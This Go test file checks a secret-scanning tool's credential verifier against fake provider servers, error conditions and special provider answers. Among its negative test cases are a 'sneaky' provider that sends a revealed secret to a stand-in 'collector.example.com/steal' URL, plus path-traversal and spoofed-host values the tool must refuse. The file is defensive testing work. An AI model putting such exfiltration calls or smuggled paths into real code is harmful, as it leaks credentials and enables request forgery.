package verify

import (
	"cmp"
	"context"
	"crypto"
	"crypto/rsa"
	"crypto/sha256"
	"encoding/base64"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil"
)

func parseAmzDate(s string) (time.Time, error) { return time.Parse("20060102T150405Z", s) }

// verifyAssertion checks the RS256 JWT in a token request.
func verifyAssertion(body []byte, pub *rsa.PublicKey) bool {
	form, err := url.ParseQuery(string(body))
	if err != nil || form.Get("grant_type") != "urn:ietf:params:oauth:grant-type:jwt-bearer" {
		return false
	}
	parts := strings.Split(form.Get("assertion"), ".")
	if len(parts) != 3 {
		return false
	}
	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
	if err != nil {
		return false
	}
	sum := sha256.Sum256([]byte(parts[0] + "." + parts[1]))
	return rsa.VerifyPKCS1v15(pub, crypto.SHA256, sum[:], sig) == nil
}

// fake serves one provider's documented answers and records the hosts
// and methods it was asked for.
type fake struct {
	fx     fixture
	secret string
	mu     sync.Mutex
	hosts  []string
}

func (f *fake) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	f.mu.Lock()
	f.hosts = append(f.hosts, r.Method+" "+r.Host)
	f.mu.Unlock()
	carries := f.fx.carries
	if carries == nil {
		carries = carriesSecret
	}
	if carries(r, body, f.secret) {
		for k, vs := range f.fx.validHeader {
			w.Header()[k] = vs
		}
		w.WriteHeader(cmp.Or(f.fx.validStatus, 200))
		_, _ = io.WriteString(w, f.fx.valid)
		return
	}
	w.WriteHeader(f.fx.invalidStatus)
	_, _ = io.WriteString(w, f.fx.invalid)
}

func (fx fixture) finding(name, secret string) vigil.Finding {
	return finding(name, name+"-key", secret, fx.parts...)
}

// TestEveryProviderIsTested: a provider added to the table must get a
// fixture here (Twilio has its own tests against the emulator).
func TestEveryProviderIsTested(t *testing.T) {
	fx := fixtures()
	var names []string
	for _, p := range Providers() {
		names = append(names, p.Name)
		if _, ok := fx[p.Name]; !ok && p.Name != "twilio" {
			t.Errorf("verifier %q has no fixture", p.Name)
		}
	}
	for name := range fx {
		if !slices.Contains(names, name) {
			t.Errorf("fixture %q has no verifier", name)
		}
	}
	if len(names) < 26 {
		t.Errorf("%d verifiers, want Twilio and at least 25 others", len(names))
	}
	if err := checkTable(Providers()); err != nil {
		t.Fatal(err)
	}
}

// TestProviders plays each provider's documented success and refusal.
func TestProviders(t *testing.T) {
	for name, fx := range fixtures() {
		t.Run(name, func(t *testing.T) {
			good := fx.validSecret
			if good == "" {
				good = fx.secret()
			}
			fk := &fake{fx: fx, secret: good}
			srv := httptest.NewServer(fk)
			defer srv.Close()
			v, _, logs := newTestVerifier(t, Options{BaseURLs: map[string]string{name: srv.URL}})

			f := fx.finding(name, good)
			got := v.Verify(context.Background(), &f)
			if got.Status != vigil.Valid {
				t.Fatalf("valid credential: verdict %+v", got)
			}
			for _, k := range fx.facts {
				if got.Facts[k] == "" {
					t.Errorf("no fact %q in %v", k, got.Facts)
				}
			}
			assertNoSecret(t, got, logs.String(), f)

			bad := fx.finding(name, fx.secret())
			got = v.Verify(context.Background(), &bad)
			if got.Status != vigil.Invalid {
				t.Fatalf("refused credential: verdict %+v", got)
			}
			assertNoSecret(t, got, logs.String(), bad)
			p, _ := Lookup(name)
			for _, h := range fk.hosts {
				if !declaredHost(p, h) {
					t.Errorf("request %s is not to a declared endpoint's host", h)
				}
			}
		})
	}
}

// declaredHost reports whether "METHOD host" matches a declared endpoint.
func declaredHost(p Provider, mh string) bool {
	method, host, _ := strings.Cut(mh, " ")
	for _, e := range p.Endpoints {
		u := &url.URL{Scheme: "https", Host: host}
		if e.Method == method && (e.Host() == host || strings.Contains(e.Host(), "{") && e.pattern().MatchString(u.String()+strings.TrimPrefix(e.URL, "https://"+e.Host()))) {
			return true
		}
	}
	return false
}

// faultServer misbehaves in one way for every request.
func faultServer(t *testing.T, kind string) *httptest.Server {
	t.Helper()
	stop := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// Read the body: until then the server cannot notice the client
		// giving up, and a hanging handler would outlive the test.
		_, _ = io.Copy(io.Discard, r.Body)
		switch kind {
		case "429":
			w.Header().Set("Retry-After", "3600")
			w.WriteHeader(429)
		case "500", "502", "503":
			w.WriteHeader(map[string]int{"500": 500, "502": 502, "503": 503}[kind])
			_, _ = io.WriteString(w, `{"error":"unavailable"}`)
		case "garbage":
			_, _ = io.WriteString(w, "<html><body>Welcome to the hotel wifi</body></html>")
		case "empty json":
			_, _ = io.WriteString(w, "{}")
		case "redirect":
			http.Redirect(w, r, "https://login.example/", http.StatusFound)
		case "hang":
			select {
			case <-r.Context().Done():
			case <-stop:
			}
		case "reset":
			conn, _, err := w.(http.Hijacker).Hijack()
			if err == nil {
				_ = conn.Close()
			}
		}
	}))
	t.Cleanup(func() { close(stop); srv.Close() })
	return srv
}

// TestProviderFaults: for every verifier, Twilio included, a provider that
// times out, resets, rate-limits, fails or answers garbage yields Unknown
// with a reason — never Invalid.
func TestProviderFaults(t *testing.T) {
	fx := fixtures()
	fx["twilio"] = fixture{secret: func() string { return randHex(32) }, parts: []string{"account_sid", "AC" + randHex(32)}}
	for _, kind := range []string{"429", "500", "502", "503", "garbage", "empty json", "redirect", "hang", "reset"} {
		t.Run(kind, func(t *testing.T) {
			t.Parallel()
			srv := faultServer(t, kind)
			timeout := 10 * time.Second
			if kind == "hang" {
				timeout = 200 * time.Millisecond
			}
			v, _, _ := newTestVerifier(t, Options{Timeout: timeout, Concurrency: len(fx), BaseURLs: map[string]string{"*": srv.URL}})
			var fs []vigil.Finding
			for name, f := range fx {
				fs = append(fs, f.finding(name, f.secret()))
			}
			st, err := v.VerifyAll(context.Background(), fs)
			if err != nil || st.Unknown != len(fx) {
				t.Errorf("stats %+v, %v", st, err)
			}
			for _, f := range fs {
				if got := f.Verdict; got.Status != vigil.Unknown || got.Reason == "" {
					t.Errorf("%s: verdict %+v, want unknown with a reason", f.Verifier, got)
				}
			}
		})
	}
}

// TestTLSError: a certificate vigil does not trust is a TLS error.
func TestTLSError(t *testing.T) {
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	defer srv.Close()
	v, _, _ := newTestVerifier(t, Options{BaseURLs: map[string]string{"github": srv.URL}})
	f := finding("github", "github-pat", "ghp_"+randAlnum(36))
	if got := v.Verify(context.Background(), &f); got.Status != vigil.Unknown || got.Reason != ReasonTLS {
		t.Fatalf("verdict %+v", got)
	}
}

// TestSpecialAnswers covers answers beyond plain success and refusal.
func TestSpecialAnswers(t *testing.T) {
	for _, tt := range []struct {
		name, verifier, secret string
		status                 int
		body                   string
		want                   vigil.Status
	}{
		{"cloudflare expired token", "cloudflare", randAlnum(40), 200, `{"success":true,"result":{"id":"t","status":"expired"}}`, vigil.Invalid},
		{"stripe restricted key", "stripe", "rk_live_" + randAlnum(24), 403, `{"error":{"type":"invalid_request_error","message":"lacks permission"}}`, vigil.Valid},
		{"gitlab token without read_user", "gitlab", "glpat-" + randAlnum(20), 403, `{"error":"insufficient_scope"}`, vigil.Valid},
		{"vercel team-scoped token", "vercel", randAlnum(24), 403, `{"error":{"code":"forbidden","message":"You don't have permission to access this resource."}}`, vigil.Unknown},
		{"github rate limited", "github", "ghp_" + randAlnum(36), 403, `{"message":"API rate limit exceeded"}`, vigil.Unknown},
		{"slack rate limited", "slack", "xoxb-" + randAlnum(40), 200, `{"ok":false,"error":"ratelimited"}`, vigil.Unknown},
		{"datadog valid=false", "datadog", randHex(32), 200, `{"valid":false}`, vigil.Invalid},
		{"cohere valid=false", "cohere", randAlnum(40), 200, `{"valid":false}`, vigil.Invalid},
		{"gcp clock skew", "gcp", "", 400, `{"error":"invalid_grant","error_description":"Invalid JWT: Token must be a short-lived token (60 minutes) and in a reasonable timeframe. Check your iat and exp values"}`, vigil.Unknown},
		{"aws throttled", "aws", "", 400, `<ErrorResponse><Error><Code>Throttling</Code></Error></ErrorResponse>`, vigil.Unknown},
		{"aws HTML 403", "aws", "", 403, `<html>no</html>`, vigil.Unknown},
		{"slack webhook, archived channel", "slack-webhook", "", 410, "channel_is_archived", vigil.Unknown},
		{"slack webhook that posted", "slack-webhook", "", 200, "ok", vigil.Unknown},
		{"slack webhook behind a proxy", "slack-webhook", "", 403, "<html>Forbidden</html>", vigil.Unknown},
		{"discord webhook deleted", "discord-webhook", "", 404, `{"message":"Unknown Webhook","code":10015}`, vigil.Invalid},
		{"discord 404 without Discord's body", "discord-webhook", "", 404, `<html>not found</html>`, vigil.Unknown},
		{"figma token without current_user:read", "figma", "", 403, `{"status":403,"err":"Invalid scope"}`, vigil.Unknown},
		{"hubspot token without the scope", "hubspot", "", 403, `{"status":"error","category":"MISSING_SCOPES","message":"This app hasn't been granted all required scopes"}`, vigil.Valid},
		{"scaleway key that may not read IAM", "scaleway", "", 403, `{"message":"insufficient permissions","type":"permissions_denied"}`, vigil.Valid},
		{"scaleway 403 of another kind", "scaleway", "", 403, `{"message":"quota","type":"quotas_exceeded"}`, vigil.Unknown},
		{"rubygems key without index scope", "rubygems", "", 403, `This API key cannot perform the specified action on this gem.`, vigil.Valid},
		{"xai blocked key", "xai", "", 200, `{"api_key_id":"k1","name":"ci","api_key_blocked":true,"api_key_disabled":false,"team_blocked":false}`, vigil.Invalid},
		{"xai blocked team", "xai", "", 200, `{"api_key_id":"k1","name":"ci","api_key_blocked":false,"api_key_disabled":false,"team_blocked":true}`, vigil.Invalid},
		{"mapbox expired token", "mapbox", "", 401, `{"code":"TokenExpired"}`, vigil.Invalid},
		{"mapbox revoked token", "mapbox", "", 401, `{"code":"TokenRevoked"}`, vigil.Invalid},
		{"mapbox 401 of another kind", "mapbox", "", 401, `{"message":"Not Authorized - No Token"}`, vigil.Unknown},
		{"mapbox 200 not TokenValid", "mapbox", "", 200, `{"code":"TokenMalformed","token":{}}`, vigil.Unknown},
		{"ibm other 400", "ibm", "", 400, `{"errorCode":"BXNIM0109E","errorMessage":"Property missing or empty."}`, vigil.Unknown},
		{"ibm 200 without a token", "ibm", "", 200, `{"token_type":"Bearer"}`, vigil.Unknown},
	} {
		t.Run(tt.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(tt.status)
				_, _ = io.WriteString(w, tt.body)
			}))
			defer srv.Close()
			v, _, _ := newTestVerifier(t, Options{BaseURLs: map[string]string{tt.verifier: srv.URL}})
			fx := fixtures()[tt.verifier]
			secret := tt.secret
			if secret == "" {
				secret = fx.secret()
			}
			f := fx.finding(tt.verifier, secret)
			if got := v.Verify(context.Background(), &f); got.Status != tt.want {
				t.Fatalf("verdict %+v, want %s", got, tt.want)
			}
		})
	}
}

// TestNotVerifiable: a credential missing a part is not sent anywhere.
func TestNotVerifiable(t *testing.T) {
	v, _, _ := newTestVerifier(t, Options{BaseURLs: map[string]string{"*": "http://127.0.0.1:9"}})
	for _, f := range []vigil.Finding{
		finding("twilio", "twilio-auth-token", randHex(32)),
		finding("twilio", "twilio-api-key", randAlnum(32), "api_key_sid", "not-a-sid"),
		finding("aws", "aws-secret", randAlnum(40)),
		finding("gcp", "gcp-key", "-----BEGIN PRIVATE KEY-----"),
		finding("telegram", "telegram-bot", "not:a token"),
		finding("mailchimp", "mailchimp-key", randHex(32)),
		finding("datadog", "datadog-key", randHex(32), "site", "example.com"),
		finding("tailscale", "tailscale-key", "tskey-auth-"+randAlnum(12)+"CNTRL-"+randAlnum(30)),
		finding("razorpay", "razorpay-key-secret", randAlnum(24)),
		finding("razorpay", "razorpay-key-secret", randAlnum(24), "key_id", "rzp_test_x/../../v2"),
		finding("scaleway", "scaleway-secret-key", randHex(32)),
		finding("scaleway", "scaleway-secret-key", randHex(32), "access_key", "SCW/../../admin"),
		finding("slack-webhook", "slack-webhook-url", "https://hooks.slack.com.evil.example/services/T1/B1/x"),
		finding("discord-webhook", "discord-webhook-url", "https://discord.com/api/webhooks/1/../../users/@me"),
	} {
		got := v.Verify(context.Background(), &f)
		if got.Status != vigil.NotVerified || got.Reason == "" {
			t.Errorf("%s: verdict %+v, want not verified with a reason", f.RuleID, got)
		}
	}
	if v.Requests() != 0 {
		t.Fatalf("%d requests", v.Requests())
	}
}

// TestUndeclaredEndpoint: a verifier cannot call what it did not declare.
func TestUndeclaredEndpoint(t *testing.T) {
	p := Provider{Name: "sneaky", Endpoints: []Endpoint{{"GET", "https://api.example.com/ok", "allowed"}},
		Check: func(ctx context.Context, c *Call, cred Credential) vigil.Verdict {
			r, err := c.Get(ctx, "https://collector.example.com/steal?k="+cred.Secret.Reveal(), nil)
			if err != nil {
				return Failed(err)
			}
			return Valid(map[string]string{"status": statusReason(r)})
		}}
	v, _, _ := newTestVerifier(t, Options{Providers: []Provider{p}})
	f := finding("sneaky", "x", "s")
	if got := v.Verify(context.Background(), &f); got.Reason != ReasonUndeclared || v.Requests() != 0 {
		t.Fatalf("verdict %+v after %d requests", got, v.Requests())
	}
}

func TestEndpointPattern(t *testing.T) {
	for _, tt := range []struct {
		tmpl, url string
		want      bool
	}{
		{"https://{dc}.api.mailchimp.com/3.0/", "https://us6.api.mailchimp.com/3.0/", true},
		{"https://{dc}.api.mailchimp.com/3.0/", "https://evil.example/.api.mailchimp.com/3.0/", false},
		{"https://{dc}.api.mailchimp.com/3.0/", "https://a.b.api.mailchimp.com/3.0/", false},
		{"https://api.telegram.org/bot{token}/getMe", "https://api.telegram.org/bot1:abc/getMe", true},
		{"https://api.telegram.org/bot{token}/getMe", "https://api.telegram.org/bot1/x/getMe", false},
		{"https://api.github.com/user", "https://api.github.com/user/repos", false},
	} {
		if got := (Endpoint{URL: tt.tmpl}).pattern().MatchString(tt.url); got != tt.want {
			t.Errorf("%s ~ %s = %v", tt.tmpl, tt.url, got)
		}
	}
}
